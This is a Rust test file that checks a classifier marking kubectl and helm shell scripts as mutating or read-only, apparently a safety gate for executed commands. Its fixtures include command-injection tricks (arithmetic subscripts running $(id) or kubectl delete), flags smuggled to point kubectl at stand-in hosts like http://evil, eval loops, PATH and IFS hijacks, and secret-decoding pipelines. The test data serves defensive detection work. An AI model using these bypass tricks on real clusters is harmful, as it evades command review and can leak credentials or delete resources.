//! Scripts with substitutions, loops and functions that may change something.

use super::assert_effects;

#[test]
fn scripts_that_may_change_something_are_mutating() {
    assert_effects(SCRIPTS);
}

/// Lines of scripts, whose expected effect alone is given.
const SCRIPTS: &str = r#"
    M (kubectl get pods; kubectl delete pod x)
    M if kubectl get pods; then kubectl rollout undo deploy/web; fi
    M for p in $(kubectl get pods -o name); do kubectl delete $p; done
    M for x in $(kubectl logs web-0); do kubectl get pod $x; done
    M for x in $(kubectl get clusterroles -o jsonpath='{.items[*].metadata.name}'); do kubectl get pods $x; done
    M for f in *; do echo $f; done
    M kubectl logs web-0 | while read x; do kubectl get pods $x; done
    M kubectl get pods -o name | while read p; do eval $p; done
    M while read l; do kubectl get $l; done < cmds.txt
    M kubectl get pods -o name | xargs kubectl delete
    M kubectl logs web-0 | xargs kubectl get pods
    M kubectl logs web-0 | xargs -I{} sh -c 'echo {}'
    M kubectl get pods -o name | xargs -a /etc/passwd echo
    M kubectl get pods -o name | sed 's/pod/-/' | xargs kubectl get
    M kubectl get pods -o name | grep -o -- '-.*' | xargs kubectl get
    M kubectl get pods -o name | grep -A1 x | xargs kubectl get
    M kubectl get pods -o name 2>&1 | xargs kubectl get
    M kubectl get pods -o name | tr '\n' ' ' | while read p; do kubectl -n $p get delete pod y; done
    M kubectl get pods -o name | while read p; do :; done; kubectl -n $p get delete pod y
    M x=$(kubectl logs web-0); kubectl get pods $x
    M x=$(kubectl logs web-0); kubectl get pods "$x"
    M x=$(kubectl get ns -o name); kubectl -n $x get delete pod y
    M x=$(kubectl get ns -o name); kubectl get pods $x-s http://evil
    M x=$(kubectl get ns -o name); kubectl delete pod y -n $x --dry-run=server
    M o=$(kubectl get cm a -o jsonpath='{.data.o}'); kubectl get pods -o "$o"
    M n=$(kubectl get cm a -o jsonpath='{.data.n}'); kubectl get --raw "/api/v1/namespaces/$n/pods"
    M n=$(kubectl get cm a -o jsonpath='{.data.n}'); echo $((n + 1))
    M n=$(kubectl get cm a -o jsonpath='{.data.n}'); [[ $n -gt 1 ]] && kubectl get pods
    M n=$(kubectl get cm a -o jsonpath='{.data.n}'); [ "$n" "$n" ] && kubectl get pods
    M [ -v 'a[$(id)]' ] && kubectl get pods
    M x=prod; for i in 1 2; do x=$(kubectl logs web-0); break; x=prod; done; kubectl get pods $x
    M x=$(kubectl logs web-0); n=$((1 / 0)); x=prod⏎kubectl get pods $x
    M f() { x=$(kubectl logs web-0); }; x=prod; f; kubectl get pods $x
    M f() { kubectl delete pod "$1"; }; f web-0
    M kubectl get pods; helm template web ./chart -s evil.example
    M kubectl get pods; for s in -s evil.example; do echo $s; done
    M kubectl get pods | while read -s evil; do echo x; done
    M f() { f; }; f
    M f() { kubectl "$@"; }; f delete pod x
    M f() { kubectl get "$@"; }; f pods --as=admin
    M f() { kubectl get "$@"; }; f "$(kubectl logs web-0)"
    M kubectl get "$@"
    M n=$(kubectl get foos.example.com x -o json | jq .spec.replicas); echo $((n + 1))
    M n=$(helm list -o json | jq '.[0].app_version'); echo $((n + 1))
    M kubectl() { rm x; }; kubectl get pods
    M diff <(kubectl get pods) <(kubectl delete pod x)
    M diff /etc/passwd <(kubectl get pods)
    M kubectl get pods > >(tee x)
    M cat <<EOF | sh⏎kubectl delete pod x⏎EOF
    M cat <<EOF⏎$(kubectl delete pod x)⏎EOF
    M kubectl get pods <<EOF⏎--server=http://evil⏎EOF
    M bash <<< "kubectl delete pod x"
    M for p in a b; do kubectl get pod $p; done > out.txt
    M p=$(kubectl get pods -o name | cut -d/ -f2); sh -c "kubectl get pod $p"
    M kubectl get pods -A --no-headers | awk '{print $1,$2}' | xargs -I{} sh -c 'kubectl -n {} get pods'
    M kubectl get pods -o name | xargs -0 -I{} sh -c 'kubectl get {}'
    M kubectl get foo.example.com -o jsonpath='{.items[*].spec.nodeName}' | xargs kubectl get node
    M n=$(kubectl get foos.example.com x -o jsonpath='{.spec.replicas}'); echo $((n + 1))
    M kubectl get pods.example.com --no-headers | xargs -n1 kubectl get
    M kubectl get pods -o json | jq -r '.items[] | select(.a), ({metadata:{name:.b}}) | .metadata.name' | xargs kubectl get
    M seq -s ' --server=http://evil ' 3 | xargs kubectl get pods
    M kubectl get pods $(date +%Y%n-s)
    M env KUBECONFIG=/tmp/k kubectl get pods
    M env -S 'kubectl delete pod x'
    M watch 'kubectl get pods; rm x'
    M IFS=/; kubectl get pods
    M PATH=/tmp; kubectl get pods
    M x=$HOME; echo $x
    M echo ${x@P}
    M printf -v PATH /tmp
"#;

/// Lines whose commands change something in one shell and not in another, or with other values than usual.
#[test]
fn scripts_that_shells_read_differently_are_mutating() {
    assert_effects(DIFFERENT_READINGS);
}

/// Lines of scripts, whose expected effect alone is given.
const DIFFERENT_READINGS: &str = r#"
    M x1='a[$(kubectl delete pod y)]'; n=$((1)); [[ x$n -eq 1 ]]
    M x1=1; x2='a[$(kubectl delete pod y)]'; n=$((2)); echo $((x$n))
    M n=$((2)); echo $((${n}x))
    M n=$((2)); m=$((1)); echo $(($n$m))
    M n=$(kubectl get deploy web -o jsonpath="{.metadata['annotations'].generation}"); echo $((n + 1))
    M n=$(kubectl get deploy web -o json | jq '.metadata["annotations"].generation'); echo $((n + 1))
    M kubectl get pods $(kubectl get deploy web -o jsonpath="{.metadata['annotations'].name}")
    M sh -c '[[ a || eval = ";kubectl delete pod x;" ]]'
    M [[ a || kubectl delete pod x ]]
    M [[ a > f1 ]]
    M [[ a =~ b|kubectl ]]
    M kubectl=1 delete=1 ns=1 prod=1; ((kubectl delete ns prod))
    M n=1; ((1 & n))
    M n=1; ((n - 1))
    M echo "$(cat <<EOF)"⏎kubectl delete pod x⏎EOF
    M rm() { echo hi; }; time rm x
    M reboot() { echo hi; }; unset reboot; reboot
    M eval() { :; }; unset eval; eval 'kubectl delete pod x'
    M trap() { :; }; trap 'kubectl delete pod x' EXIT
    M kubectl get pods -o name | until read x; do kubectl -n $x get delete pod y; break; done
    M kubectl get pods -o name | while ! read x; do kubectl -n $x get delete pod y; done
    M { kubectl get pods -o name; echo; } | while read p; do kubectl -n $p get delete pod y; done
    M kubectl get pods -o json | jq -r '.items[].metadata.labels.tier' | while read t; do kubectl -n $t get delete pod y; done
    M x=a/-sevil.example; kubectl get pods ${x##*/}
    M echo a/-sevil.example | cut -d/ -f2 | xargs kubectl get pods
    M echo a/-sevil.example | awk -F/ '{print $2}' | xargs kubectl get pods
    M echo a/-sevil.example | sed 's|^a/||' | xargs kubectl get pods
    M IFS=/ read a b <<< a/-sevil.example; kubectl get pods $b
    M n=$(kubectl get deploy web -o json | grep -v zz | grep -v annotations | jq .metadata.generation); echo $((n+1))
    M n=$(kubectl get deploy web -o json | sed -n 1,5p | jq .metadata.generation); echo $((n+1))
    M helm history web | awk '1;{print $1}' | xargs kubectl get pods
    M helm history web | awk 'NR>1;{print $1}' | xargs kubectl get pods
    R n=$(kubectl get deploy web -o json | jq .spec.replicas); echo $((n + 1))
    R n=1; ((n++)); echo $n
    R x=$(kubectl get pods -o name | head -1); echo ${x##*/}
    R kubectl get pods -o jsonpath='{.items[?(@.status.phase=="Failed")].metadata.name}'
"#;

#[test]
fn deep_loops_are_not_walked_for_long() {
    let values: Vec<String> = (0..32).map(|n| format!("v{n}")).collect();
    let values = values.join(" ");
    let start = format!(
        "for a in {values}; do for b in {values}; do for c in {values}; do for d in {values}; do ((1)); done; done; done; done"
    );
    assert_effects(&format!("M {start}"));
    assert_effects(&format!("M ((1{}))", "+1".repeat(20_000)));
}

#[test]
fn launched_filters_keep_the_mark_of_secret_values() {
    super::assert_classes(
        r"
    RV kubectl get secret db -o yaml | timeout 5 awk '{print $2}' | timeout 5 base64 -d
    RV kubectl get secret db -o yaml | timeout 5 grep password
    RV kubectl get secret db -o json | env jq .data
    RV kubectl get secret db -o yaml | stdbuf -oL grep password
    RV kubectl get cm web -o yaml | nice base64 -d
    ",
    );
}
